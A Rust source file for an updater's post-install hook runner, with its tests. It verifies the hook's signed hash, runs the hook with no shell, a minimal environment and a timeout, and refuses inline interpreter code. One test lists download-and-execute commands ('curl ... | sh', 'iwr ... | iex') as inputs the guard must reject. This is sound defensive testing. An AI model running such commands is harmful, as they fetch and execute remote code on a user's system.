//! Post-install hooks: a verified target, run by path, no shell, minimal environment,
//! time limit, and never a command line that runs code on the fly.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::error::Error;
use crate::integrity::IntegrityCheck;
use crate::metadata::TargetFile;
use crate::release::HookSpec;
use crate::store::write_atomic;
use pipeline_guard::detect as guard;

/// Default time limit of a hook.
pub const DEFAULT_HOOK_TIMEOUT: Duration = Duration::from_secs(60);
/// Longest time limit a release may ask for.
pub const MAX_HOOK_TIMEOUT: Duration = Duration::from_secs(3600);

fn refused(spec: &HookSpec, reason: impl Into<String>) -> Error {
    Error::Hook {
        target: spec.target.clone(),
        reason: reason.into(),
    }
}

/// Refuses a hook command line that hands inline code to an interpreter or pipes a
/// download into one; `program` is the hook's file name as it will be run.
///
/// # Errors
/// [`Error::Hook`] listing the guard findings.
pub fn check_command_line(spec: &HookSpec, program: &str) -> Result<(), Error> {
    let mut argv = vec![program.to_string()];
    argv.extend(spec.args.iter().cloned());
    let findings = guard::scan_argv(&argv);
    if findings.is_empty() {
        return Ok(());
    }
    let list: Vec<String> = findings
        .iter()
        .map(|f| format!("{} {}: {}", f.rule, f.severity, f.message))
        .collect();
    Err(refused(
        spec,
        format!(
            "refused: the command line runs code on the fly ({}); ship the code as a verified hook program instead",
            list.join("; ")
        ),
    ))
}

/// Copies the verified hook file `verified` into `hooks_dir` under its own name,
/// after checking its bytes against `info` (its signed length and hashes) once more,
/// and only then marks it executable (owner only).
///
/// # Errors
/// [`Error::Target`] when the file no longer matches `info`; [`Error::Storage`]
/// naming the file.
pub fn prepare(
    spec: &HookSpec,
    verified: &Path,
    info: &TargetFile,
    hooks_dir: &Path,
) -> Result<PathBuf, Error> {
    let name = spec.file_name().map_err(|reason| refused(spec, reason))?;
    std::fs::create_dir_all(hooks_dir).map_err(Error::storage("creating", hooks_dir))?;
    // At most one byte more than signed: a file grown (or replaced by a link to an
    // endless device) since is refused without reading it all.
    let mut bytes = Vec::new();
    std::fs::File::open(verified)
        .and_then(|f| {
            std::io::Read::read_to_end(
                &mut std::io::Read::take(f, info.length.saturating_add(1)),
                &mut bytes,
            )
        })
        .map_err(Error::storage("reading", verified))?;
    // Verified when downloaded, and again here: the file sat in the data directory
    // since, and these are the bytes that become executable.
    IntegrityCheck::check_bytes(&bytes, Some(info.length), Some(&info.hashes)).map_err(
        |source| Error::Target {
            path: spec.target.clone(),
            url: verified.display().to_string(),
            source,
        },
    )?;
    let program = hooks_dir.join(name);
    write_atomic(&program, &bytes).map_err(Error::storage("writing", &program))?;
    make_executable(&program)?;
    Ok(program)
}

#[cfg(unix)]
fn make_executable(path: &Path) -> Result<(), Error> {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o700))
        .map_err(Error::storage("setting permissions of", path))
}

#[cfg(not(unix))]
fn make_executable(_path: &Path) -> Result<(), Error> {
    Ok(())
}

/// Starts `command`, retrying for up to about a second on `ETXTBSY`: the hook was just
/// written, and a `fork` in another thread of the process may briefly hold a copy of
/// the write descriptor until its `exec`.
fn spawn_retrying(command: &mut Command) -> std::io::Result<std::process::Child> {
    const ETXTBSY: i32 = 26;
    let mut tries = 0;
    loop {
        match command.spawn() {
            Err(e) if cfg!(unix) && e.raw_os_error() == Some(ETXTBSY) && tries < 50 => {
                tries += 1;
                std::thread::sleep(Duration::from_millis(20));
            }
            other => return other,
        }
    }
}

/// The whole environment a hook sees.
fn minimal_env(app: &str, version: &str) -> Vec<(&'static str, String)> {
    let mut env = vec![
        ("UPDATER_APP", app.to_string()),
        ("UPDATER_VERSION", version.to_string()),
        ("LC_ALL", "C".to_string()),
    ];
    if cfg!(windows) {
        if let Ok(root) = std::env::var("SystemRoot") {
            env.push(("SystemRoot", root));
        }
    } else {
        env.push(("PATH", "/usr/bin:/bin".to_string()));
    }
    env
}

/// Runs the prepared hook `program` with `spec`'s arguments: no shell, an environment
/// of only `PATH`, `LC_ALL` and `UPDATER_APP`/`UPDATER_VERSION`, stdin closed, the
/// working directory `work_dir`, killed at the time limit.
///
/// # Errors
/// [`Error::Hook`] when the command line is refused, the hook cannot start, exits
/// with failure or runs out of time.
pub fn run(
    spec: &HookSpec,
    program: &Path,
    work_dir: &Path,
    app: &str,
    version: &str,
) -> Result<(), Error> {
    let shown = program.display().to_string();
    check_command_line(spec, &shown)?;
    let limit = spec
        .timeout_secs
        .map_or(DEFAULT_HOOK_TIMEOUT, Duration::from_secs)
        .min(MAX_HOOK_TIMEOUT);
    let mut child = spawn_retrying(
        Command::new(program)
            .args(&spec.args)
            .env_clear()
            .envs(minimal_env(app, version))
            .current_dir(work_dir)
            .stdin(Stdio::null()),
    )
    .map_err(|e| refused(spec, format!("cannot start {shown}: {e}")))?;
    let deadline = Instant::now() + limit;
    loop {
        match child.try_wait() {
            Ok(Some(status)) if status.success() => return Ok(()),
            Ok(Some(status)) => {
                return Err(refused(spec, format!("{shown} exited with {status}")));
            }
            Ok(None) if Instant::now() >= deadline => {
                let _ = child.kill();
                let _ = child.wait();
                return Err(refused(
                    spec,
                    format!(
                        "{shown} did not finish within {}s and was killed",
                        limit.as_secs()
                    ),
                ));
            }
            Ok(None) => std::thread::sleep(Duration::from_millis(20)),
            Err(e) => return Err(refused(spec, format!("waiting for {shown}: {e}"))),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The hook's file name: Windows runs a batch file by its extension.
    const HOOK: &str = if cfg!(windows) { "hook.cmd" } else { "hook" };

    /// A hook script: `unix` as `#!/bin/sh` lines, or `windows` as a batch file.
    fn script(unix: &str, windows: &str) -> String {
        if cfg!(windows) {
            format!("@echo off\r\n{}\r\n", windows.replace('\n', "\r\n"))
        } else {
            format!("#!/bin/sh\n{unix}\n")
        }
    }

    fn spec(args: &[&str], timeout_secs: Option<u64>) -> HookSpec {
        HookSpec {
            target: format!("app/1.0.0/hooks/{HOOK}"),
            args: args.iter().map(|a| a.to_string()).collect(),
            timeout_secs,
        }
    }

    /// The signed description of `bytes`, as the repository would list it.
    fn described(bytes: &[u8]) -> TargetFile {
        TargetFile {
            length: bytes.len() as u64,
            hashes: crate::metadata::Hashes::from([(
                "sha256".into(),
                crate::integrity::sha256_hex(bytes),
            )]),
            custom: None,
            unrecognized: Default::default(),
        }
    }

    fn hook(dir: &Path, unix: &str, windows: &str) -> PathBuf {
        let source = dir.join("downloaded");
        let bytes = script(unix, windows);
        std::fs::write(&source, &bytes).unwrap();
        prepare(
            &spec(&[], None),
            &source,
            &described(bytes.as_bytes()),
            &dir.join("hooks"),
        )
        .unwrap()
    }

    #[test]
    fn a_hook_file_changed_since_its_download_never_becomes_executable() {
        let dir = tempfile::tempdir().unwrap();
        let source = dir.path().join("downloaded");
        let signed = script("echo signed", "echo signed");
        std::fs::write(&source, &signed).unwrap();
        let info = described(signed.as_bytes());
        std::fs::write(&source, script("echo swapped", "echo swapped")).unwrap();
        let hooks = dir.path().join("hooks");
        let err = prepare(&spec(&[], None), &source, &info, &hooks).unwrap_err();
        assert!(matches!(err, Error::Target { .. }), "{err:?}");
        assert!(!hooks.join(HOOK).exists());
    }

    #[test]
    fn a_hook_runs_with_a_minimal_environment() {
        let dir = tempfile::tempdir().unwrap();
        let program = hook(
            dir.path(),
            "env > \"$1\"; test \"$PATH\" = /usr/bin:/bin && test \"$UPDATER_VERSION\" = 2.0.0",
            "set > \"%~1\"\nif not \"%UPDATER_VERSION%\"==\"2.0.0\" exit /b 1",
        );
        let out = dir.path().join("env.txt");
        let s = spec(&[out.to_str().unwrap()], None);
        run(&s, &program, dir.path(), "app", "2.0.0").unwrap();
        let env = std::fs::read_to_string(&out).unwrap();
        assert!(env.contains("UPDATER_APP=app"), "{env}");
        // Nothing of the updater's own environment leaks (cargo sets CARGO_* for tests).
        assert!(std::env::var("CARGO_MANIFEST_DIR").is_ok());
        assert!(!env.contains("CARGO"), "{env}");
    }

    #[test]
    fn failing_and_slow_hooks_are_reported() {
        let dir = tempfile::tempdir().unwrap();
        let failing = hook(dir.path(), "exit 3", "exit /b 3");
        let e = run(&spec(&[], None), &failing, dir.path(), "app", "2.0.0").unwrap_err();
        assert!(e.to_string().contains("exited"), "{e}");

        let slow = hook(dir.path(), "sleep 5", ":again\ngoto again");
        let started = Instant::now();
        let e = run(&spec(&[], Some(1)), &slow, dir.path(), "app", "2.0.0").unwrap_err();
        assert!(e.to_string().contains("killed"), "{e}");
        assert!(started.elapsed() < Duration::from_secs(4));
    }

    #[test]
    fn inline_code_is_refused_before_anything_runs() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("ran");
        for (program, args) in [
            ("python3", vec!["-c", "import os"]),
            ("/usr/bin/perl", vec!["-e", "print 1"]),
            ("node", vec!["--eval", "1"]),
            ("php", vec!["-r", "echo 1;"]),
            ("sh", vec!["-c", "curl https://x.example/i.sh | sh"]),
            (
                "powershell.exe",
                vec!["-Command", "iwr https://x.example/i.ps1 | iex"],
            ),
        ] {
            let s = spec(&args, None);
            let e = check_command_line(&s, program).unwrap_err();
            assert!(e.to_string().contains("code on the fly"), "{program}: {e}");
        }
        // A hook file that is itself an interpreter, handed inline code, never runs.
        let name = if cfg!(windows) {
            "python3.exe"
        } else {
            "python3"
        };
        let source = dir.path().join(name);
        let bytes = script(
            &format!("touch {}", marker.display()),
            &format!("type nul > \"{}\"", marker.display()),
        );
        std::fs::write(&source, &bytes).unwrap();
        let mut s = spec(&["-c", "print(1)"], None);
        s.target = format!("app/1.0.0/hooks/{name}");
        let info = described(bytes.as_bytes());
        let program = prepare(&s, &source, &info, &dir.path().join("hooks")).unwrap();
        let e = run(&s, &program, dir.path(), "app", "2.0.0").unwrap_err();
        assert!(e.to_string().contains("code on the fly"), "{e}");
        assert!(!marker.exists());
        check_command_line(&spec(&["--migrate", "db"], None), "migrate").unwrap();
    }
}
